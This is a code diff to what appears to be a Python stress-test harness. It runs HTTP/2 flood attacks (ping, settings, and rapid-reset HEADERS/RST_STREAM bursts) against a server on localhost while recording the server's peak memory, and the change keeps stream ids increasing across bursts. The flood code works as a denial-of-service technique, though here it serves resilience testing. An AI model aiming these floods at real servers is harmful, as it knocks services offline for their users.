@@ -66,8 +66,9 @@ def _sample(pid: int, done: threading.Event, peak: list[int]) -> None:
         peak[0] = max(peak[0], _rss_kib(pid))
 
 
-def _flood_bytes(kind: str) -> bytes:
-    """One burst of the flood: what the attacker writes, again and again, on one connection."""
+def _flood_bytes(kind: str, burst: int = 0) -> bytes:
+    """One burst of the flood: what the attacker writes, again and again, on one connection
+    (``burst``: how many came before on it, so that stream ids keep going up)."""
     if kind in ("ping", "ping-no-read"):
         return b"".join(frame(6, 0, 0, struct.pack(">Q", i)) for i in range(2000))
     if kind == "settings":
@@ -84,7 +85,7 @@ def _flood_bytes(kind: str) -> bytes:
     )
     out = []
     for i in range(500):
-        stream = 1 + 2 * i
+        stream = 1 + 2 * (500 * burst + i)
         out.append(frame(1, 4, stream, block))
         if kind == "rapid-reset":
             out.append(frame(0, 0, stream, b"\0\0\0\0\x05"))
@@ -94,14 +95,17 @@ def _flood_bytes(kind: str) -> bytes:
 
 def attacker(kind: str, port: int, stop: multiprocessing.synchronize.Event) -> None:
     os.sched_setaffinity(0, {1})
+    fixed = kind in ("ping", "ping-no-read", "settings")
     burst = _flood_bytes(kind)
     read = not kind.endswith("no-read")
     while not stop.is_set():
         try:
             with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
                 sock.sendall(PREFACE + frame(4, 0, 0))
+                count = 0
                 while not stop.is_set():
-                    sock.sendall(burst)
+                    sock.sendall(burst if fixed else _flood_bytes(kind, count))
+                    count += 1
                     if read:
                         sock.setblocking(False)
                         try:
